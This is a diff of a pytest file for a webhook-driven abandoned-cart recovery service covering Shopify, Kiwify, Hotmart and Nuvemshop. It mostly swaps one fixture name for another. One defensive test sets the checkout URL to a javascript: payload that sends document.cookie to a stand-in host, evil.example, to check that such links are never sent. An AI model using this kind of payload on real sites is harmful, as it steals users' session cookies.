@@ -70,12 +70,9 @@ def sweep(capture) -> int:
 
 
 @pytest.mark.parametrize("name", ["checkouts_create_sample", "checkouts_update_sample"])
-def test_shopifys_own_checkout_sample_messages_nobody(
-    client, outbox, django_capture_on_commit_callbacks, name
-):
+def test_shopifys_own_checkout_sample_messages_nobody(client, outbox, capture, name):
     """The sample's phones are "555-555-SHIP" and "555-555-BILL" (US) and "123-123-1234"
     (Canada): none is a mobile anyone can be reached at, and none becomes a Brazilian number."""
-    capture = django_capture_on_commit_callbacks
     topic = "checkouts/create" if "create" in name else "checkouts/update"
     with time_machine.travel(T0, tick=False):
         response = shopify(client, capture, topic, payload("shopify", name), "evt-sample")
@@ -99,9 +96,8 @@ def test_shopifys_own_checkout_sample_messages_nobody(
     ],
 )
 def test_a_junk_first_phone_gives_way_to_the_first_valid_mobile(
-    client, outbox, django_capture_on_commit_callbacks, where, phone, expected
+    client, outbox, capture, where, phone, expected
 ):
-    capture = django_capture_on_commit_callbacks
     body = payload("shopify", "checkouts_create_sample")  # shipping phone 555-555-SHIP comes first
     if where == "billing_address":
         body["billing_address"].update(phone=phone, country_code="BR")
@@ -132,10 +128,7 @@ def test_nuvemshops_documented_checkout_has_a_landline_and_gets_no_whatsapp(
 # --- 2. a new cart is a new cart ------------------------------------------------------------
 
 
-def test_a_returning_kiwify_buyer_gets_a_new_recovery_for_a_new_cart(
-    client, outbox, django_capture_on_commit_callbacks
-):
-    capture = django_capture_on_commit_callbacks
+def test_a_returning_kiwify_buyer_gets_a_new_recovery_for_a_new_cart(client, outbox, capture):
     first = payload("kiwify", "carrinho_abandonado")
     with capture(execute=True):
         assert post(client, "kiwify", first).json() == {"status": "skipped", "detail": "unknown_product"}
@@ -152,10 +145,7 @@ def test_a_returning_kiwify_buyer_gets_a_new_recovery_for_a_new_cart(
     assert len(templates(outbox)) == 1
 
 
-def test_a_returning_hotmart_buyer_gets_a_new_recovery_after_paying_the_first(
-    client, outbox, django_capture_on_commit_callbacks
-):
-    capture = django_capture_on_commit_callbacks
+def test_a_returning_hotmart_buyer_gets_a_new_recovery_after_paying_the_first(client, outbox, capture):
     ProductFactory(
         product_id="4774438", price=Decimal("497.00"), payment_link="https://pay.hotmart.com/X1234"
     )
@@ -212,10 +202,7 @@ def test_hotmarts_own_test_purchase_is_remembered_and_chases_nobody(client, outb
 # --- 3. a signed checkout cannot be replayed as a payment -----------------------------------
 
 
-def test_a_signed_checkout_replayed_as_orders_paid_converts_nothing(
-    client, outbox, django_capture_on_commit_callbacks
-):
-    capture = django_capture_on_commit_callbacks
+def test_a_signed_checkout_replayed_as_orders_paid_converts_nothing(client, outbox, capture):
     checkout = payload("shopify", "checkouts_create")
     with time_machine.travel(T0, tick=False):
         shopify(client, capture, "checkouts/create", checkout, "evt-1")
@@ -256,10 +243,7 @@ def test_shopifys_own_orders_paid_sample_matches_no_cart(client, django_capture_
 # --- 4. https links only --------------------------------------------------------------------
 
 
-def test_a_javascript_checkout_link_from_shopify_is_never_sent(
-    client, outbox, django_capture_on_commit_callbacks
-):
-    capture = django_capture_on_commit_callbacks
+def test_a_javascript_checkout_link_from_shopify_is_never_sent(client, outbox, capture):
     body = payload("shopify", "checkouts_create")
     body["abandoned_checkout_url"] = "javascript:fetch('//evil.example/'+document.cookie)"
     with time_machine.travel(T0, tick=False):
@@ -313,9 +297,8 @@ def order_webhook(client, capture, checkout):
 
 
 def test_orders_paid_while_the_token_is_refused_convert_once_it_is_restored_and_nobody_is_chased(
-    api, client, outbox, django_capture_on_commit_callbacks
+    api, client, outbox, capture
 ):
-    capture = django_capture_on_commit_callbacks
     checkouts = [nuvem_checkout(n) for n in range(4)]
     paid, unpaid = checkouts[:3], checkouts[3]
     api.get(f"{NUVEMSHOP_API}/checkouts", json=checkouts, match=[AUTH])
@@ -358,10 +341,7 @@ def test_orders_paid_while_the_token_is_refused_convert_once_it_is_restored_and_
     assert followups.count() == 1
 
 
-def test_six_500s_leave_a_failed_event_that_the_platforms_retry_completes(
-    api, client, outbox, django_capture_on_commit_callbacks
-):
-    capture = django_capture_on_commit_callbacks
+def test_six_500s_leave_a_failed_event_that_the_platforms_retry_completes(api, client, outbox, capture):
     checkout = nuvem_checkout(0)
     api.get(f"{NUVEMSHOP_API}/checkouts", json=[checkout], match=[AUTH])
     with capture(execute=True):
@@ -382,10 +362,9 @@ def test_six_500s_leave_a_failed_event_that_the_platforms_retry_completes(
 
 
 def test_a_checkout_whose_paid_order_is_still_being_fetched_is_not_opened(
-    api, client, outbox, django_capture_on_commit_callbacks, monkeypatch
+    api, client, outbox, capture, monkeypatch
 ):
     """Webhooks come before the poll sees the checkout: its order/paid, not yet read, holds it."""
-    capture = django_capture_on_commit_callbacks
     checkout = nuvem_checkout(0)
     api.get(f"{NUVEMSHOP_API}/orders/{checkout['id']}", json={"code": 503}, status=503, match=[AUTH])
     monkeypatch.setattr(nuvemshop_order_fetch, "max_retries", 0)
@@ -401,10 +380,7 @@ def test_a_checkout_whose_paid_order_is_still_being_fetched_is_not_opened(
 # --- 28.3: the newest state wins ------------------------------------------------------------
 
 
-def test_shuffled_shopify_updates_open_the_cart_with_the_newest_total(
-    client, django_capture_on_commit_callbacks
-):
-    capture = django_capture_on_commit_callbacks
+def test_shuffled_shopify_updates_open_the_cart_with_the_newest_total(client, capture):
     rng = random.Random(22)
     orders = []
     for cart in range(5):
